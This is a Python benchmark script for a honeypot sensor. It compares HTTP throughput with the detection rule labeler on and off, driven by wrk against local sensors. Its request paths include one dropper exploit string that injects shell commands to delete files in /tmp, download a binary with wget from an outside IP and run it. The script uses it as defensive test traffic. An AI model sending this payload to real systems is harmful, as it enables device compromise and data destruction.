"""HTTP sensor throughput with detection on, beside the same sensor with detection off, same run.

Two sensors (Apache persona, uvloop, bench_http's counting sink: every event built and JSON-encoded)
run side by side on core 0, one with the full built-in rule set labelling every event as it is
recorded, one without a labeler; ``wrk -t1 -c64`` on core 1 drives each in alternating rounds
(best round of each reported, the machine may be shared), once with ordinary requests and
once with a dropper exploit in the target, every request distinct (a counter in the target).
Target: detection on >= 0.8 of detection off.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import re
import signal
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "src"))

from bench_http import best, cpu_seconds, free_port, need  # noqa: E402
from http_sensor_server import CountingSink  # noqa: E402

# Every request distinct (a counter in the target), so that the labeler's result cache, which
# answers repeats (most honeypot traffic), cannot flatter the figure.
PATHS = {
    "ordinary": "/index.html?page=",
    "exploit": "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws&n=",
}
LUA = """
local n = 0
request = function()
  n = n + 1
  return wrk.format("GET", "{path}" .. n)
end
"""


async def serve(port: int, detect: bool) -> dict[str, object]:
    from honeyguard.config import DetectSettings, Limits, Listener, SensorSettings
    from honeyguard.detect import load_labeler
    from honeyguard.sensor.sensor import Sensor

    labeled = {"labeled": 0}

    class CountingLabels(CountingSink):
        def emit(self, event: object) -> None:
            super().emit(event)  # type: ignore[arg-type]
            labeled["labeled"] += bool(getattr(event, "rules", None))

    sink = CountingLabels()
    settings = SensorSettings(listeners=[Listener(service="http", port=port, persona="apache-ubuntu")],
                              limits=Limits(max_connections=4096, max_commands=1_000_000))
    labeler = load_labeler(DetectSettings()) if detect else None
    with tempfile.TemporaryDirectory() as data_dir:
        sensor = Sensor(settings, sink=sink, data_dir=Path(data_dir), labeler=labeler)
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, stop.set)
        await sensor.start()
        print("ready", flush=True)
        await stop.wait()
        await sensor.stop()
    return {"events": dict(sink.kinds), "labeled_events": labeled["labeled"]}


@contextlib.contextmanager
def sensor(detect: bool) -> Iterator[tuple[subprocess.Popen[str], int, dict[str, object]]]:
    port = free_port()
    command = [need("taskset"), "-c", "0", sys.executable, __file__, "--serve", str(port)]
    server = subprocess.Popen(command + (["--detect"] if detect else []), stdout=subprocess.PIPE, text=True)
    counts: dict[str, object] = {}
    try:
        assert server.stdout is not None
        if server.stdout.readline().strip() != "ready":
            raise RuntimeError("the sensor did not start")
        yield server, port, counts
    finally:
        server.send_signal(signal.SIGTERM)
        out, _ = server.communicate(timeout=60)
    counts.update(json.loads(out.strip().splitlines()[-1]))


def compare(quick: bool) -> None:
    rounds, seconds = (2, 2) if quick else (3, 4)
    with sensor(True) as (on_proc, on_port, on_counts), sensor(False) as (off_proc, off_port, _):
        for name, path in PATHS.items():
            on_runs, off_runs = [], []
            wrk(on_port, 1, path)  # warm up
            for _ in range(rounds):  # alternate, so that both see the same background load
                on_runs.append(_measure(on_proc.pid, on_port, seconds, path))
                off_runs.append(_measure(off_proc.pid, off_port, seconds, path))
            on, off = best(on_runs), best(off_runs)
            print(json.dumps({
                "figure": f"sensor http_rps with detection on ({name} requests)", "value": round(on["rps"]),
                "unit": "requests/s",
                "reference": {"name": "the same sensor with detection off", "value": round(off["rps"]),
                              "unit": "requests/s"},
                "ratio": round(on["rps"] / off["rps"], 3), "target": ">= 0.8",
                "params": {"path": path, "wrk": f"-t1 -c64, {rounds} alternating rounds of {seconds}s, best",
                           "on_rounds_rps": [round(r["rps"]) for r in on_runs],
                           "off_rounds_rps": [round(r["rps"]) for r in off_runs],
                           "on_cpu_us_per_request": on["cpu_us_per_request"],
                           "off_cpu_us_per_request": off["cpu_us_per_request"],
                           "cores": "sensors on core 0, wrk on core 1", "quick": quick},
            }), flush=True)
    print(json.dumps({"detection_on_sensor_events": on_counts}), file=sys.stderr)


def _measure(pid: int, port: int, seconds: int, path: str) -> dict[str, float]:
    """Requests/s by wrk, and the sensor's CPU per request (steadier on a busy machine)."""
    before = cpu_seconds(pid)
    result = wrk(port, seconds, path)
    result["cpu_us_per_request"] = round((cpu_seconds(pid) - before) / max(result["requests"], 1) * 1e6, 1)
    return result


def wrk(port: int, seconds: int, path: str) -> dict[str, float]:
    with tempfile.NamedTemporaryFile("w", suffix=".lua") as script:
        script.write(LUA.replace("{path}", path))
        script.flush()
        command = [need("taskset"), "-c", "1", need("wrk"), "-t1", "-c64", f"-d{seconds}s", "-s", script.name,
                   f"http://127.0.0.1:{port}/"]
        output = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    rps = re.search(r"Requests/sec:\s+([\d.]+)", output)
    total = re.search(r"(\d+) requests in", output)
    if rps is None or total is None:
        raise RuntimeError(f"cannot read wrk output:\n{output}")
    return {"rps": float(rps.group(1)), "requests": int(total.group(1))}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--serve", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--detect", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve is None:
        compare(args.quick)
        return
    try:
        import uvloop

        runner = uvloop.run
    except ImportError:  # pragma: no cover - uvloop is a dependency on Linux
        runner = asyncio.run
    print(json.dumps(runner(serve(args.serve, args.detect))), flush=True)


if __name__ == "__main__":
    main()
